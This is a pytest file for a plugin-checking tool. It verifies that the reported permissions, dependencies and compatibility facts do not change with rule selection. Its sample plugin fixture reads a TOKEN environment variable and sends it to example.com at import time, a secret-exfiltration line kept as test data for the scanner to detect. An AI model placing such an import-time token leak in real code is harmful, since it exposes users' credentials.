"""The report's facts (what the code does) never depend on which rules run."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from helpers import EXAMPLES, run, write_plugin
from mbcheck.reporters.json import report_dict

FACTS = ("permissions", "dependencies", "compatibility", "manifest", "metadata")

#: a plugin that reads the environment and calls the network at import time,
#: declares a dependency it does not use and needs a newer Python than it says
PHONE_HOME = {
    "plugin.yaml": (
        "name: phone\nversion: 1.0.0\ndescription: d\nauthor: a\nemail: a@example.com\nlicense: MIT\n"
        "capabilities: [x]\ntags: [x]\npython_version: '>=3.8'\npermissions: [network]\n"
        "dependencies:\n  - requests>=2\n  - rich<10\n"
    ),
    "__init__.py": (
        "import os\nimport urllib.request\n\nTOKEN = os.environ.get('TOKEN')\n"
        "urllib.request.urlopen('https://example.com/?t=' + str(TOKEN))\n\n"
        "from zoneinfo import ZoneInfo\n"
    ),
}


def _facts(paths: list[Path], settings: dict[str, Any]) -> dict[str, dict[str, Any]]:
    data = report_dict(run(paths, settings))
    return {plugin["path"]: {key: plugin.get(key) for key in FACTS} for plugin in data["plugins"]}


SELECTIONS: list[dict[str, Any]] = [
    {"ignore": ["ALL"]},
    {"ignore": ["MB3"]},
    {"ignore": ["MB4", "MB5"]},
    {"select": ["MB1"]},
    {"select": ["B"]},
]


@pytest.mark.parametrize("settings", SELECTIONS, ids=[str(s) for s in SELECTIONS])
def test_facts_are_the_same_whatever_the_rule_selection(tmp_path: Path, settings: dict[str, Any]) -> None:
    plugin = write_plugin(tmp_path, PHONE_HOME, name="phone")
    everything = _facts([plugin], {"select": ["ALL"]})
    facts = everything[str(plugin)] if str(plugin) in everything else next(iter(everything.values()))
    assert facts["permissions"]["inferred"] == ["env", "network"]
    assert facts["permissions"]["evidence"], "evidence is part of the facts"
    assert facts["dependencies"]["unused"], "the unused declaration is a fact"
    assert facts["compatibility"]["python_required"]["min"] == "3.9"
    assert _facts([plugin], settings) == everything


def test_every_example_plugin_has_the_same_facts_under_select_all_and_ignore_all() -> None:
    """All examples in one run, so cross-plugin conflicts are part of what is compared."""
    examples = sorted(p for group in ("plugins", "bottles") for p in (EXAMPLES / group).iterdir() if p.is_dir())
    everything = _facts(examples, {"select": ["ALL"]})
    nothing = _facts(examples, {"ignore": ["ALL"]})
    assert everything == nothing
    for facts in everything.values():
        assert facts["permissions"] is not None and facts["compatibility"] is not None
        assert facts["dependencies"] is not None
